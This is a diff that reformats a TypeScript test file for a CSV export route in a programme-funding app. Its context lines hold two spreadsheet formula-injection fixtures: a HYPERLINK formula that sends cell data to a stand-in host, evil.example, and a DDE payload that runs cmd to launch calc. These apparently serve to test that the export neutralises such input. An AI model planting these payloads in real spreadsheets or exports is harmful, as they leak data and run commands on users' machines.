@@ -13,7 +13,11 @@ const FORMULA_GROUP = '=HYPERLINK("http://evil.example/?d="&A1;"Cliquez")';
 const FORMULA_NAME = "@SUM(1+1)*cmd|' /C calc'!A0";
 
 const funder = db.insert(organisations).values({ name: "Fondation Formule", kind: "funder" }).returning().get();
-const programme = db.insert(programmes).values({ organisationId: funder.id, name: "Programme Formule", startsOn: "2024-01-01", endsOn: "2027-12-31" }).returning().get();
+const programme = db
+  .insert(programmes)
+  .values({ organisationId: funder.id, name: "Programme Formule", startsOn: "2024-01-01", endsOn: "2027-12-31" })
+  .returning()
+  .get();
 function officer(name: string, email: string) {
   const u = db.insert(users).values({ email, passwordHash: "x", name }).returning().get();
   db.insert(organisationMembers).values({ organisationId: funder.id, userId: u.id, role: "programme_officer" }).run();
@@ -28,7 +32,9 @@ db.insert(programmeGroups).values({ programmeId: programme.id, groupId: group.id
 
 const args = <P extends Record<string, string>>(request: Request, params: P) => ({ request, params, context: {} as never });
 async function download(userId: string, file: string) {
-  const res = (await exportRoute.loader(args(requestAs(userId, `http://localhost/p/${programme.id}/export/${file}`), { programmeId: programme.id, file: file.split("?")[0]! }))) as Response;
+  const res = (await exportRoute.loader(
+    args(requestAs(userId, `http://localhost/p/${programme.id}/export/${file}`), { programmeId: programme.id, file: file.split("?")[0]! }),
+  )) as Response;
   expect(res.status).toBe(200);
   const text = (await res.text()).replace(/^\uFEFF/, "");
   return Papa.parse<string[]>(text, { delimiter: ";" }).data;
